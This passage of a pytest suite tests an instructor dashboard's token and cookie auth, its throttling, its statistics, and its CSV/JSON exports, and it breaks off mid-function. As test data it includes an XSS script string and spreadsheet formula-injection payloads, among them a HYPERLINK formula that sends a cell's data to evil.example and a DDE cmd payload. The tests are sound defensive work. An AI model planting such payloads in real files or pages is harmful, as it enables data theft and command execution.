"""The instructor dashboard: token and cookie auth, real statistics from real submissions
(graded by the real workers), the pages and the CSV and JSON exports."""

from __future__ import annotations

import csv
import hashlib
import hmac
import html
import io
import json
import re
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from markupsafe import escape
from pydantic import SecretStr

from app import exports, instructor_auth, stats
from app.store import new_id
from app.tables import write_submissions
from tests.app.conftest import assert_error, client_for
from tests.catalog import declared_counts, shipped_catalog, shipped_exercises_dir
from tests.shapes import plain

pytestmark = [pytest.mark.sandbox, pytest.mark.catalog]

TOKEN = "s3cret"
GC = "gradient-checkpointing"
NUMPY = shipped_exercises_dir() / GC / "numpy"
SOLUTION = (NUMPY / "solution.py").read_text()
# How many hidden tests each track has: the catalog's number, whatever it is.
HIDDEN = {track: declared_counts(GC, track)[1] for track in ("numpy", "torch")}
# Names of stored tests in the tests that write rows straight to the store.
COPIES = "saved activations are copies (layers that work in place)"
UNSORTED = "recompute ignores the order of the checkpoint list and its repeats"
# A comment that would break out of the page's <pre><code> if it were not escaped.
HOSTILE = "\n# </code></pre><script>alert('owned')</script>\n"
# Known-wrong solutions shipped with the exercise (``drill validate`` proves that each
# fails some hidden test).
SAVES_REFERENCES = (NUMPY / "wrong" / "saves_references.py").read_text() + HOSTILE
ASSUMES_SORTED = (NUMPY / "wrong" / "assumes_sorted_checkpoints.py").read_text()
# Run mode (examples only): stored, exported, but not counted in the statistics.
RUN_CODE = SOLUTION + '\n# "quotes", commas;\ttabs\r\nand a CRLF\n'
BEARER = {"Authorization": f"Bearer {TOKEN}"}
STATS = f"/api/instructor/exercises/{GC}/stats"
CSV_URL = "/api/instructor/submissions.csv"
JSON_URL = "/api/instructor/submissions.json"
LAYER_STACK = "checkpointing-layer-stack"


def submit(client: TestClient, code: str, mode: str = "submit") -> dict:
    response = client.post(
        f"/api/exercises/{GC}/submissions", json={"track": "numpy", "code": code, "mode": mode}
    )
    assert response.status_code == 200, response.text
    return response.json()


def failed_tests(result: dict) -> set[str]:
    return {t["name"] for t in result["tests"] if t["status"] != "pass"}


def cookie_for(token: str, expires: int | None = None) -> str:
    expires = int(time.time()) + 3600 if expires is None else expires
    mac = hmac.new(token.encode(), f"drill-instructor:{expires}".encode(), hashlib.sha256)
    return f"{expires}.{mac.hexdigest()}"


def logged_in(client: TestClient) -> None:
    client.cookies.set(instructor_auth.COOKIE, cookie_for(TOKEN))


def logged_out(client: TestClient) -> None:
    client.cookies.delete(instructor_auth.COOKIE)


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with client_for(tmp_path_factory.mktemp("instructor"), instructor_token=TOKEN) as test_client:
        yield test_client


@pytest.fixture(scope="module")
def submitted(client: TestClient) -> dict[str, dict]:
    """One correct Submit, two wrong ones and a Run, through the learners' API."""
    made = {
        "solution": submit(client, SOLUTION),
        "saves_references": submit(client, SAVES_REFERENCES),
        "assumes_sorted": submit(client, ASSUMES_SORTED),
        "run": submit(client, RUN_CODE, mode="run"),
    }
    assert made["solution"]["status"] == "pass"
    assert failed_tests(made["saves_references"]) and failed_tests(made["assumes_sorted"])
    return made


def failures_per_test(submitted: dict[str, dict]) -> dict[str, int]:
    """How many of the Submits failed each hidden test, counted from their results."""
    names = [t["name"] for t in submitted["solution"]["tests"]]
    wrong = [failed_tests(submitted[key]) for key in ("saves_references", "assumes_sorted")]
    return {name: sum(name in failed for failed in wrong) for name in names}


@pytest.fixture(autouse=True)
def no_instructor_cookie(client: TestClient) -> Iterator[None]:
    """Each test starts logged out, with no wrong tokens on record."""
    state = client.app.state  # type: ignore[attr-defined]
    logged_out(client)
    state.instructor_failed_attempts = None
    yield
    logged_out(client)
    state.instructor_failed_attempts = None


# --- disabled ---


def test_everything_is_404_when_no_token_is_set(tmp_path: Path) -> None:
    with client_for(tmp_path) as client:
        for headers in ({}, BEARER):
            for url in (STATS, CSV_URL, f"{CSV_URL}?exercise={GC}", JSON_URL):
                assert_error(
                    client.get(url, headers=headers), 404, "not_found", "DRILL_INSTRUCTOR_TOKEN"
                )
        client.cookies.set(instructor_auth.COOKIE, cookie_for(""))
        pages = [
            client.get("/instructor"),
            client.get(f"/instructor/exercises/{GC}"),
            client.get("/instructor/login"),
            client.post("/instructor/login", data={"token": ""}),
            client.post("/instructor/logout"),
        ]
        for page in pages:
            assert page.status_code == 404, page.text
            assert page.headers["content-type"].startswith("text/html")
            assert "dashboard is disabled: set DRILL_INSTRUCTOR_TOKEN" in page.text
            assert instructor_auth.COOKIE not in page.headers.get("set-cookie", "")


def test_an_empty_token_disables_the_dashboard_too(tmp_path: Path) -> None:
    with client_for(tmp_path, instructor_token="") as client:
        assert_error(
            client.get(STATS, headers={"Authorization": "Bearer "}), 404, "not_found", "disabled"
        )
        assert client.get("/instructor").status_code == 404


# --- the API's bearer token ---


def test_the_api_needs_the_token(client: TestClient) -> None:
    for url in (STATS, CSV_URL, JSON_URL):
        missing = assert_error(client.get(url), 401, "unauthorized", "Bearer")
        assert missing["message"]
        for wrong in ("Bearer nope", f"Bearer {TOKEN}x", f"Basic {TOKEN}", TOKEN, "Bearer"):
            response = client.get(url, headers={"Authorization": wrong})
            assert_error(response, 401, "unauthorized")
            assert response.headers["www-authenticate"] == "Bearer"
        # The cookie's value is not the token: as a bearer token it is refused.
        response = client.get(url, headers={"Authorization": f"Bearer {cookie_for(TOKEN)}"})
        assert_error(response, 401, "unauthorized", "wrong")
        assert client.get(url, headers=BEARER).status_code == 200


def test_unknown_exercises_and_bad_filters(client: TestClient) -> None:
    assert_error(
        client.get("/api/instructor/exercises/nope/stats", headers=BEARER), 404, "not_found"
    )
    for url in (CSV_URL, JSON_URL):
        assert_error(client.get(f"{url}?exercise=nope", headers=BEARER), 404, "not_found")
        assert_error(client.get(f"{url}?exercise=Bad!", headers=BEARER), 422, "invalid_request")
        assert_error(client.get(f"{url}?exercise=nope"), 401, "unauthorized")
    # Auth comes first: an unauthenticated caller learns nothing about the exercises.
    assert_error(client.get("/api/instructor/exercises/nope/stats"), 401, "unauthorized")


def test_the_openapi_schema_declares_the_bearer_scheme(client: TestClient) -> None:
    schema = client.get("/openapi.json").json()
    schemes = schema["components"]["securitySchemes"]
    assert schemes["InstructorToken"]["type"] == "http"
    assert schemes["InstructorToken"]["scheme"].lower() == "bearer"
    for path in ("/api/instructor/exercises/{slug}/stats", CSV_URL, JSON_URL):
        assert schema["paths"][path]["get"]["security"] == [{"InstructorToken": []}]
    assert not [p for p in schema["paths"] if p.startswith("/instructor")]  # pages: no schema


# --- statistics from real submissions ---


def test_stats_count_the_submits_and_each_failed_test(
    client: TestClient, submitted: dict[str, dict]
) -> None:
    body = client.get(STATS, headers=BEARER).json()
    assert set(body) == {
        "slug",
        "version",
        "current_version",
        "versions",
        "learners",
        "solved",
        "tracks",
    }
    assert body["slug"] == GC and body["version"] == body["current_version"]
    assert [(v["number"], v["submissions"], v["regraded"]) for v in body["versions"]] == [(1, 3, 0)]
    assert set(body["tracks"]) == {"numpy", "torch"}  # every track, even without submissions
    # One learner (the client's cookie) made every Submit, and one of them passed.
    assert (body["solved"], body["learners"]) == (1, 1)
    numpy = body["tracks"]["numpy"]
    assert set(numpy) == {
        "submissions",
        "passed",
        "learners",
        "solved",
        "tests",
        "blamed_elsewhere",
    }
    assert numpy["submissions"] == 3  # the Run is not counted
    assert numpy["passed"] == 1
    assert (numpy["solved"], numpy["learners"]) == (1, 1)
    # The hidden tests in the reference's order, each run by all three Submits.
    reference = [t["name"] for t in submitted["solution"]["tests"]]
    assert [t["name"] for t in numpy["tests"]] == reference and len(reference) == HIDDEN["numpy"]
    assert [t["id"] for t in numpy["tests"]] == [t["id"] for t in submitted["solution"]["tests"]]
    for test in numpy["tests"]:
        assert set(test) == {"id", "name", "runs", "failures", "not_run", "blamed_elsewhere"}
        assert test["runs"] == 3
    assert {t["name"]: t["failures"] for t in numpy["tests"]} == failures_per_test(submitted)

    torch = body["tracks"]["torch"]
    assert torch["submissions"] == 0 and torch["passed"] == 0
    assert (torch["solved"], torch["learners"]) == (0, 0)
    assert len(torch["tests"]) == HIDDEN["torch"]  # from the reference, before any Submit
    assert all(t["runs"] == 0 and t["failures"] == 0 for t in torch["tests"])


def test_common_failures_and_recent_submissions(
    client: TestClient, submitted: dict[str, dict]
) -> None:
    store = client.app.state.service.store  # type: ignore[attr-defined]
    names = {"numpy": [], "torch": []}
    top = plain(stats.common_failures(store, GC, names))
    assert top["torch"] == []
    expected = {
        (t["name"], t["message"])
        for key in ("saves_references", "assumes_sorted")
        for t in submitted[key]["tests"]
        if t["status"] != "pass"
    }
    assert {(f["test"], f["message"]) for f in top["numpy"]} == expected
    assert all(f["count"] == 1 and f["message"] for f in top["numpy"])

    recent = plain(stats.recent_submissions(store, GC))
    order = ["assumes_sorted", "saves_references", "solution"]  # newest first, no Run
    assert [r["id"] for r in recent] == [submitted[k]["id"] for k in order]
    assert recent[1]["code"] == SAVES_REFERENCES
    assert recent[2]["status"] == "pass"
    assert (recent[2]["passed"], recent[2]["total"]) == (HIDDEN["numpy"],) * 2
    assert all(len(r["learner"]) == 10 and r["track"] == "numpy" for r in recent)
    assert [r["created_at"] for r in recent] == [submitted[k]["created_at"] for k in order]


# --- CSV export ---


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_export_holds_every_submission_and_its_code(
    client: TestClient, submitted: dict[str, dict]
) -> None:
    response = client.get(f"{CSV_URL}?exercise={GC}", headers=BEARER)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith("attachment;") and f"drill-submissions-{GC}.csv" in disposition
    assert response.text.splitlines()[0].split(",") == list(exports.CSV_COLUMNS)
    rows = parse_csv(response.text)
    by_id = {row["id"]: row for row in rows}
    assert set(by_id) == {s["id"] for s in submitted.values()}  # Run included: it is data
    assert "result" not in rows[0]
    code = {"solution": SOLUTION, "saves_references": SAVES_REFERENCES, "run": RUN_CODE}
    for key, text in code.items():
        row = by_id[submitted[key]["id"]]
        assert row["code"] == text  # quotes, commas, tabs, CRLF: all round-trip
        assert row["status"] == submitted[key]["status"]
        assert row["mode"] == submitted[key]["mode"]
        assert row["created_at"] == submitted[key]["created_at"]
    assert by_id[submitted["run"]["id"]]["mode"] == "run"
    assert int(by_id[submitted["solution"]["id"]]["passed"]) == HIDDEN["numpy"]
    # Each test's status by its id, the result's tests in order; no regrade here.
    for key in ("solution", "saves_references"):
        tests = json.loads(by_id[submitted[key]["id"]]["tests"])
        assert list(tests.items()) == [(t["id"], t["status"]) for t in submitted[key]["tests"]]
        assert by_id[submitted[key]["id"]]["regrade_of"] == ""
    # The learner id is the learner's cookie (it opens their drafts): only a pseudonym
    # may leave the server.
    learner_id = client.cookies.get("drill_learner")
    assert learner_id and learner_id not in response.text
    assert {row["learner"] for row in rows} == {stats.short_learner(learner_id)}
    # The unfiltered export has the same rows here (one exercise was used).
    everything = client.get(CSV_URL, headers=BEARER)
    assert 'filename="drill-submissions.csv"' in everything.headers["content-disposition"]
    assert {r["id"] for r in parse_csv(everything.text)} == set(by_id)
    # Another exercise: only the header.
    other = client.get(f"{CSV_URL}?exercise=checkpointing-layer-stack", headers=BEARER)
    assert other.status_code == 200 and parse_csv(other.text) == []


def test_csv_export_pages_through_the_table(
    client: TestClient, submitted: dict[str, dict], monkeypatch: pytest.MonkeyPatch
) -> None:
    store = client.app.state.service.store  # type: ignore[attr-defined]
    whole = parse_csv(exports.submissions_csv(store, GC))
    for batch in (1, 2, 3, 4, 5):
        monkeypatch.setattr(exports, "CSV_BATCH", batch)
        assert parse_csv(exports.submissions_csv(store, GC)) == whole
    assert [r["created_at"] for r in whole] == sorted(r["created_at"] for r in whole)
    assert len(whole) == 4


# --- pages and the login cookie ---


def test_pages_redirect_to_the_login_form_without_a_valid_cookie(client: TestClient) -> None:
    for value in (None, "nope", TOKEN, cookie_for(TOKEN + "x")):
        logged_out(client)
        if value is not None:  # the raw token is not a valid cookie either
            client.cookies.set(instructor_auth.COOKIE, value)
        for url in ("/instructor", f"/instructor/exercises/{GC}", "/instructor/exercises/nope"):
            response = client.get(url, follow_redirects=False)
            assert response.status_code == 303, (value, url)
            assert response.headers["location"] == "/instructor/login"


def test_login_form_wrong_and_right_token(client: TestClient) -> None:
    form = client.get("/instructor/login")
    assert form.status_code == 200
    assert 'method="post"' in form.text and 'name="token"' in form.text
    assert 'action="/instructor/login"' in form.text
    assert "style=" not in form.text  # the CSP blocks inline styles

    wrong = client.post("/instructor/login", data={"token": "guess"}, follow_redirects=False)
    assert wrong.status_code == 401
    assert "not the instructor token" in wrong.text and 'name="token"' in wrong.text
    assert instructor_auth.COOKIE not in wrong.headers.get("set-cookie", "")
    empty = client.post("/instructor/login", data={"token": ""}, follow_redirects=False)
    assert empty.status_code == 401 and "Enter the instructor token" in empty.text
    as_json = client.post("/instructor/login", json={"token": TOKEN}, follow_redirects=False)
    assert as_json.status_code == 401  # a form, not JSON
    assert client.get("/instructor", follow_redirects=False).status_code == 303

    right = client.post("/instructor/login", data={"token": TOKEN}, follow_redirects=False)
    assert right.status_code == 303 and right.headers["location"] == "/instructor"
    cookie = right.headers["set-cookie"]
    name, value = cookie.split(";")[0].split("=", 1)
    expires = int(value.partition(".")[0])
    assert name == instructor_auth.COOKIE and value == cookie_for(TOKEN, expires)
    assert abs(expires - time.time() - instructor_auth.COOKIE_MAX_AGE) < 60
    assert TOKEN not in cookie  # the cookie holds an HMAC, not the token
    attributes = {part.strip().lower() for part in cookie.split(";")[1:]}
    assert {"httponly", "samesite=strict", "path=/"} <= attributes
    assert "secure" not in attributes  # plain http here

    dashboard = client.get("/instructor")  # the client's jar now holds the cookie
    assert dashboard.status_code == 200
    assert "Gradient checkpointing" in dashboard.text
    assert f'href="/instructor/exercises/{GC}"' in dashboard.text
    assert "Only <strong>Submit</strong> counts" in dashboard.text
    assert dashboard.headers["cache-control"] == "no-store"
    assert client.get(STATS).status_code == 200  # the API takes the cookie too
    assert client.get("/instructor/login", follow_redirects=False).status_code == 303

    out = client.post("/instructor/logout", follow_redirects=False)
    assert out.status_code == 303 and out.headers["location"] == "/instructor/login"
    assert f'{instructor_auth.COOKIE}=""' in out.headers["set-cookie"]
    assert client.get("/instructor", follow_redirects=False).status_code == 303


def test_the_cookie_is_secure_over_https(client: TestClient) -> None:
    response = client.post(
        "https://testserver/instructor/login", data={"token": TOKEN}, follow_redirects=False
    )
    assert response.status_code == 303
    attributes = {p.strip().lower() for p in response.headers["set-cookie"].split(";")[1:]}
    assert "secure" in attributes


def test_the_dashboard_shows_the_real_numbers(
    client: TestClient, submitted: dict[str, dict]
) -> None:
    logged_in(client)
    overview = client.get("/instructor").text
    assert '<td class="num" data-stat="submissions">3</td>' in overview  # numpy: 3 Submits
    assert '<td class="num" data-stat="passed">1</td>' in overview
    assert "33%" in overview  # 1 of 3 passed
    # Passed counts Submits; one learner sent the three and solved the track.
    assert 'data-solved="1" data-learners="1">1 of 1 learner</td>' in overview
    assert "Solved by 1 of 1 learner, in any track" in overview

    page = client.get(f"/instructor/exercises/{GC}")
    assert page.status_code == 200
    text = page.text
    assert "style=" not in text and "<script>" not in text.split("</head>")[1]
    assert 'data-stat="submissions">3<' in text and 'data-stat="passed">1<' in text
    assert 'data-stat="submissions">0<' in text  # the torch track, empty
    assert 'data-solved="1" data-learners="1">1 of 1 learner</dd>' in text  # numpy
    assert 'data-solved="0" data-learners="0">no learner yet</dd>' in text  # torch
    assert "against v1 (" in text and "the current version: 3 Submits." in text
    assert text.count('class="chart-bar"') == sum(HIDDEN.values())  # a bar per hidden test
    for name, failures in failures_per_test(submitted).items():
        assert f"<title>{escape(name)}: {failures} failures in 3 runs</title>" in text
    failing = sorted(failed_tests(submitted["saves_references"]))[0]
    assert f">{escape(failing)}</text>" in text and ">0/0</text>" in text
    for key in ("saves_references", "assumes_sorted"):
        for test in submitted[key]["tests"]:
            if test["status"] != "pass":
                assert str(escape(test["message"])) in text
    # The code of the recent Submits, highlighted and escaped: the hostile comment stays text.
    blocks = re.findall(r'<pre class="recent-code highlight"[^>]*><code>(.*?)</code>', text, re.S)
    assert SAVES_REFERENCES in [html.unescape(re.sub(r"<[^>]*>", "", b)) for b in blocks]
    assert '<span class="k">def</span>' in text
    assert "<script>alert" not in text
    assert f"/api/instructor/submissions.csv?exercise={GC}" in text
    assert f"/api/instructor/submissions.json?exercise={GC}" in text
    assert 'href="/api/instructor/submissions.json"' in overview
    assert page.headers["cache-control"] == "no-store"

    missing = client.get("/instructor/exercises/nope")
    assert missing.status_code == 404 and "There is no exercise named" in missing.text


def test_a_broken_exercises_folder_is_shown(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    service = client.app.state.service  # type: ignore[attr-defined]

    class WithProblem:
        catalog_problem = "exercises/gradient-checkpointing/exercise.toml: <bad> line 3"

        def __init__(self, grader: Any) -> None:
            self.grader = grader

        def __getattr__(self, name: str) -> Any:
            return getattr(self.grader, name)

    logged_in(client)
    for url in ("/instructor", f"/instructor/exercises/{GC}"):
        assert "instructor-alert" not in client.get(url).text
    monkeypatch.setattr(service, "grader", WithProblem(service.grader))
    for url in ("/instructor", f"/instructor/exercises/{GC}"):
        text = client.get(url).text
        assert 'class="instructor-alert" role="alert"' in text
        assert "exercise.toml: &lt;bad&gt; line 3" in text


def test_every_secret_is_compared_in_constant_time(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    calls: list[tuple[bytes, bytes]] = []
    real = hmac.compare_digest

    def recording(a: Any, b: Any) -> bool:
        calls.append((a, b))
        return real(a, b)

    monkeypatch.setattr(instructor_auth.hmac, "compare_digest", recording)
    assert client.get(STATS, headers={"Authorization": "Bearer guess"}).status_code == 401
    assert (b"guess", TOKEN.encode()) in calls
    calls.clear()
    assert client.get(STATS, headers=BEARER).status_code == 200
    assert (TOKEN.encode(), TOKEN.encode()) in calls
    calls.clear()
    client.post("/instructor/login", data={"token": "guess"})
    assert calls == [(b"guess", TOKEN.encode())]
    calls.clear()
    forged = f"{int(time.time()) + 600}.{'0' * 64}"
    client.cookies.set(instructor_auth.COOKIE, forged)
    assert client.get("/instructor", follow_redirects=False).status_code == 303
    assert calls == [(forged.encode(), cookie_for(TOKEN, int(forged.split(".")[0])).encode())]


def test_an_expired_login_cookie_is_refused(client: TestClient) -> None:
    # Signed with the right token, but its time is up: a copied cookie does not last.
    client.cookies.set(instructor_auth.COOKIE, cookie_for(TOKEN, int(time.time()) - 1))
    assert client.get("/instructor", follow_redirects=False).status_code == 303
    client.cookies.set(instructor_auth.COOKIE, cookie_for(TOKEN))
    assert client.get("/instructor", follow_redirects=False).status_code == 200
    client.cookies.delete(instructor_auth.COOKIE)


def test_wrong_tokens_are_throttled(client: TestClient) -> None:
    # Ten wrong tokens a minute per client, through the form or the API; then even the
    # right one is not compared (429) until the oldest wrong one is a minute old.
    statuses = [
        client.post("/instructor/login", data={"token": f"guess{i}"}).status_code for i in range(5)
    ]
    statuses += [
        client.get(STATS, headers={"Authorization": f"Bearer guess{i}"}).status_code
        for i in range(5)
    ]
    assert statuses == [401] * 10
    limited = client.post("/instructor/login", data={"token": TOKEN}, follow_redirects=False)
    assert limited.status_code == 429 and "Too many wrong tokens" in limited.text
    assert 50 <= int(limited.headers["retry-after"]) <= 60
    assert instructor_auth.COOKIE not in limited.headers.get("set-cookie", "")
    response = client.get(STATS, headers=BEARER)
    assert_error(response, 429, "rate_limited", "too many wrong instructor tokens")
    assert 50 <= int(response.headers["retry-after"]) <= 60
    # A logged-in instructor is not locked out: the cookie cannot be guessed.
    logged_in(client)
    assert client.get(STATS).status_code == 200
    assert client.get("/instructor").status_code == 200


def test_wrong_tokens_are_forgotten_after_the_window() -> None:
    now = [1000.0]
    attempts = instructor_auth.FailedAttempts(limit=2, window=60, clock=lambda: now[0])
    attempts.failed("a")
    now[0] += 10
    assert attempts.wait("a") is None
    attempts.failed("a")
    assert attempts.wait("a") == 50 and attempts.wait("b") is None
    now[0] += 50.5
    assert attempts.wait("a") is None  # the first one is older than a minute
    attempts.failed("a")
    assert attempts.wait("a") == 10


# --- malformed cookies and tokens: "not logged in", never a 500 ---

# A stamp an hour from when the cookie is sent (never from when this module was imported:
# a slow suite would reach the tests after that hour): cookie_header puts it in.
FUTURE = "<an hour from now>"
MALFORMED_COOKIES = {
    # int() of more than 4300 digits raises ValueError: this was a 500.
    "5000-digit stamp": "9" * 5000 + "." + "0" * 64,
    "5000 digits, no separator": "9" * 5000,
    "13-digit stamp": "9" * 13 + "." + "0" * 64,
    "stamp of leading zeros": "0" * 12 + FUTURE + "." + "0" * 64,
    "no separator": FUTURE,
    "empty": "",
    "only a separator": ".",
    "no stamp": "." + "0" * 64,
    "signed stamp": "+" + FUTURE + "." + "0" * 64,
    "negative stamp": "-1." + "0" * 64,
    "non-ASCII digits": "١٧٠٠٠٠٠٠٠٠." + "0" * 64,
    "superscript digits": "²³⁴." + "0" * 64,
    "non-ASCII HMAC": FUTURE + ".é" + "\u2603" * 40,
    "quoted": '"' + FUTURE + "." + "0" * 64 + '"',
    "huge HMAC": FUTURE + "." + "a" * 6_000,  # a larger Cookie header is refused (431)
    "two separators": FUTURE + ".." + "0" * 64,
}


def cookie_header(value: str) -> dict[bytes, bytes]:
    """A raw Cookie header (UTF-8 bytes): the client's cookie jar only takes ASCII. Send it
    from a ``stranger``: it replaces the jar's cookies, so the server hands out a new
    learner cookie, which must not replace the learner of the tests above."""
    value = value.replace(FUTURE, str(int(time.time()) + 3600))
    return {b"Cookie": f"{instructor_auth.COOKIE}={value}".encode()}


def stranger(client: TestClient) -> TestClient:
    """Another browser on the same running service (not entered: no second start-up)."""
    return TestClient(client.app)


@pytest.mark.parametrize("value", MALFORMED_COOKIES.values(), ids=MALFORMED_COOKIES.keys())
def test_a_malformed_cookie_is_not_a_login(client: TestClient, value: str) -> None:
    # The answers a wrong cookie gets: pages send to the login form, the API says 401.
    headers = cookie_header(value)
    client = stranger(client)
    for url in ("/instructor", f"/instructor/exercises/{GC}"):
        response = client.get(url, headers=headers, follow_redirects=False)
        assert response.status_code == 303, (url, response.text[:200])
        assert response.headers["location"] == "/instructor/login"
    form = client.get("/instructor/login", headers=headers, follow_redirects=False)
    assert form.status_code == 200 and 'name="token"' in form.text
    for url in (STATS, CSV_URL, JSON_URL):
        assert_error(client.get(url, headers=headers), 401, "unauthorized", "Bearer")


@pytest.mark.parametrize(
    "authorization",
    # (headers over 32 KiB in all are refused before this: tests/app/test_hostile_requests.py)
    ["Bearer " + "9" * 5000, "Bearer " + "é\u2603" * 20, "Bearer " + "x" * 20_000, "Bearer  ."],
    ids=["5000 digits", "non-ASCII", "huge", "spaces and a dot"],
)
def test_a_malformed_bearer_token_is_a_wrong_one(client: TestClient, authorization: str) -> None:
    response = client.get(STATS, headers={b"Authorization": authorization.encode()})
    assert_error(response, 401, "unauthorized")


def test_a_token_that_is_not_utf8_still_answers(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    # An environment variable holding bytes that are not UTF-8 reads as lone surrogates.
    settings = client.app.state.settings  # type: ignore[attr-defined]
    token = TOKEN + "\udcff"
    monkeypatch.setattr(settings, "instructor_token", SecretStr(token))
    client = stranger(client)
    wrong = cookie_header(FUTURE + "." + "0" * 64)
    assert client.get("/instructor", headers=wrong, follow_redirects=False).status_code == 303
    assert_error(client.get(STATS, headers=wrong), 401, "unauthorized")
    right = cookie_header(instructor_auth.cookie_value(token))
    assert client.get("/instructor", headers=right, follow_redirects=False).status_code == 200
    assert client.get(STATS, headers=right).status_code == 200


# --- hostile data: formulas in the CSV, exact code in JSON, huge stored messages ---

# Code that a spreadsheet would read as a formula, one per dangerous first character.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+1",
    "-": "-1+1\nprint('negative')",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "CR": "\r=1+1",
}
PLAIN_CODE = "import numpy as np  # é, \u2603\r\nx = '=not a formula'\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    """A service of its own: the rows made here would change the counts checked above."""
    tmp = tmp_path_factory.mktemp("instructor-hostile")
    with client_for(tmp, instructor_token=TOKEN) as test_client:
        yield test_client


@pytest.fixture(scope="module")
def formula_runs(hostile: TestClient) -> dict[str, str]:
    """Id -> code of Runs through the learners' API: the formulas, plain code, and one
    Run of another exercise (for the filter)."""
    made = {}
    for code in (*FORMULAS.values(), PLAIN_CODE):
        made[submit(hostile, code, mode="run")["id"]] = code
    other = hostile.post(
        f"/api/exercises/{LAYER_STACK}/submissions",
        json={"track": "torch", "code": "=1", "mode": "run"},
    )
    assert other.status_code == 200, other.text
    made[other.json()["id"]] = "=1"
    return made


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        *((code, "'" + code) for code in FORMULAS.values()),
        (PLAIN_CODE, PLAIN_CODE),
        ("", ""),
        ("'=already quoted", "'=already quoted"),
        (" =1", " =1"),
        (-1, -1),  # a number is not text: a negative count stays a number
        (2.5, 2.5),
    ],
    ids=[*(f"starts with {c}" for c in FORMULAS), "plain", "empty", "quoted", "space", "-1", "2.5"],
)
def test_spreadsheet_safe_quotes_exactly_the_formula_starts(cell: Any, safe: Any) -> None:
    assert exports.spreadsheet_safe(cell) == safe


def test_csv_cells_that_start_a_formula_get_a_quote(
    hostile: TestClient, formula_runs: dict[str, str]
) -> None:
    response = hostile.get(CSV_URL, headers=BEARER)
    assert response.status_code == 200
    rows = {row["id"]: row for row in parse_csv(response.text)}
    assert set(rows) == set(formula_runs)
    for sub_id, code in formula_runs.items():
        expected = code if code == PLAIN_CODE else "'" + code
        assert rows[sub_id]["code"] == expected, (code, rows[sub_id]["code"])
        # Every other cell: as before (nothing in them starts a formula).
        assert rows[sub_id]["mode"] == "run" and rows[sub_id]["status"] in ("fail", "error")
        assert rows[sub_id]["learner"] == stats.short_learner(hostile.cookies["drill_learner"])
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_json_export_keeps_the_exact_code(
    hostile: TestClient, formula_runs: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    response = hostile.get(JSON_URL, headers=BEARER)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/json")
    disposition = response.headers["content-disposition"]
    assert (
        disposition.startswith("attachment;") and 'filename="drill-submissions.json"' in disposition
    )
    assert response.headers["cache-control"] == "no-store"
    rows = json.loads(response.content)
    assert isinstance(rows, list)
    assert [list(row) for row in rows] == [list(exports.CSV_COLUMNS)] * len(rows)
    by_id = {row["id"]: row for row in rows}
    assert set(by_id) == set(formula_runs)
    for sub_id, code in formula_runs.items():
        assert by_id[sub_id]["code"].encode() == code.encode()  # byte for byte, no quote
    # The same values as the CSV (which quotes only the formulas).
    csv_rows = {row["id"]: row for row in parse_csv(hostile.get(CSV_URL, headers=BEARER).text)}
    for sub_id, row in by_id.items():
        as_text = {k: "" if v is None else str(v) for k, v in row.items()}
        as_text["code"] = exports.spreadsheet_safe(row["code"])
        as_text["tests"] = json.dumps(row["tests"])  # a CSV cell holds the object as JSON
        assert as_text == csv_rows[sub_id]

    # The filter, as the CSV's.
    filtered = hostile.get(f"{JSON_URL}?exercise={GC}", headers=BEARER)
    assert f'filename="drill-submissions-{GC}.json"' in filtered.headers["content-disposition"]
    gc_rows = json.loads(filtered.content)
    assert {r["id"] for r in gc_rows} == {i for i, c in formula_runs.items() if c != "=1"}
    assert {r["exercise"] for r in gc_rows} == {GC}
    other = json.loads(hostile.get(f"{JSON_URL}?exercise={LAYER_STACK}", headers=BEARER).content)
    assert [(r["exercise"], r["code"]) for r in other] == [(LAYER_STACK, "=1")]
    assert_error(hostile.get(f"{JSON_URL}?exercise=nope", headers=BEARER), 404, "not_found")

    # Auth as the CSV's: no token, a wrong one, the cookie.
    assert_error(hostile.get(JSON_URL), 401, "unauthorized", "Bearer")
    assert_error(
        hostile.get(JSON_URL, headers={"Authorization": "Bearer nope"}), 401, "unauthorized"
    )
    instructor = stranger(hostile)
    instructor.cookies.set(instructor_auth.COOKIE, cookie_for(TOKEN))
    assert json.loads(instructor.get(JSON_URL).content) == rows

    # Streamed in pages: the same array whatever the page size.
    store = hostile.app.state.service.store  # type: ignore[attr-defined]
    for batch in (1, 2, 3, len(rows), len(rows) + 1):
        monkeypatch.setattr(exports, "CSV_BATCH", batch)
        assert json.loads(exports.submissions_json(store)) == rows


def test_the_json_export_of_an_empty_table_is_an_empty_array(tmp_path: Path) -> None:
    with client_for(tmp_path, instructor_token=TOKEN, workers=1) as empty:
        response = empty.get(JSON_URL, headers=BEARER)
        assert response.status_code == 200 and json.loads(response.content) == []


HUGE = 1_000_000
PAGE_LIMIT = 200_000  # bytes


def store_submit(store: Any, code: str, tests: list[dict[str, Any]], message: str = "") -> str:
    """A failed Submit written straight to the store's tables, whatever the grader would
    keep."""
    sub_id, created = new_id(), datetime.now(UTC)
    result = {
        "id": sub_id,
        "version": 1,
        "exercise": GC,
        "track": "numpy",
        "mode": "submit",
        "status": "fail" if tests else "error",
        "message": message or f"0/{len(tests)} tests passed",
        "passed": 0,
        "total": len(tests),
        "duration_ms": 1.0,
        "tests": tests,
        "created_at": created.isoformat(),
    }
    row = {
        "id": sub_id,
        "learner": "hostile-learner-0123456789",
        "exercise": GC,
        "track": "numpy",
        "mode": "submit",
        # The exercise as served now: the statistics show the current version by default.
